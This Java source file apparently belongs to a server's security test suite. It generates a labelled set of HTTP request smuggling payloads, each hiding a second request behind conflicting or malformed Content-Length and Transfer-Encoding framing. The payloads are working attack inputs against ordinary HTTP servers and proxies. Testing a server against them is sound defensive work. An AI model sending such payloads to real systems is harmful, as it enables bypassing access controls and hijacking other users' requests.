package org.usageconsumption.attack;

import java.util.LinkedHashMap;
import java.util.Map;

/** Requests whose end somebody between the client and the server may see elsewhere than the server, and others behind them. */
record SmuggledRequests(String path, String hidden, String token) {

    /** What is sent, by what is wrong with it. */
    Map<String, String> all() {
        var all = new LinkedHashMap<String, String>();
        var whole = request("GET", hidden, "Connection: close\r\n", "");
        var length = "Content-Length: " + (whole.length() + 5) + "\r\n";
        var chunked = "Transfer-Encoding: chunked\r\n";
        all.put("a length and chunks", post(length + chunked, "0\r\n\r\n" + whole));
        all.put("chunks and a length", post(chunked + length, "0\r\n\r\n" + whole));
        all.put("two lengths", post("Content-Length: 2\r\n" + length, "{}" + whole));
        all.put("two lengths in one", post("Content-Length: 2, " + whole.length() + "\r\n", "{}" + whole));
        all.put("chunks twice", post(chunked + chunked + length, "0\r\n\r\n" + whole));
        for (var coding :
                new String[] {"xchunked", "identity", "chunked, identity", "\u000bchunked", "chunked\u0000"}) {
            all.put(
                    "the coding " + coding,
                    post("Transfer-Encoding: " + coding + "\r\n" + length, "0\r\n\r\n" + whole));
        }
        all.put("a space before the colon", post("Transfer-Encoding : chunked\r\n" + length, "0\r\n\r\n" + whole));
        all.put("a folded coding", post("Transfer-Encoding:\r\n chunked\r\n" + length, "0\r\n\r\n" + whole));
        all.put("a folded length", post("Content-Length:\r\n 2\r\n", "{}" + whole));
        for (var digits : new String[] {"+2", "-1", "0x2", "2 2", "2e0", "", "\u0662"}) {
            all.put("the length " + digits, post("Content-Length: " + digits + "\r\n", "{}" + whole));
        }
        for (var size : new String[] {"-1", "+2", "0x2", "FFFFFFFFFFFFFFFF2", "2 2", ""}) {
            all.put("a chunk of " + size, post(chunked, size + "\r\n{}\r\n0\r\n\r\n" + whole));
        }
        return all;
    }

    private String post(String framing, String rest) {
        return request("POST", path, framing, rest);
    }

    private String request(String method, String target, String headers, String rest) {
        return method + " " + target + " HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer " + token
                + "\r\nContent-Type: application/json\r\n" + headers + "\r\n" + rest;
    }
}
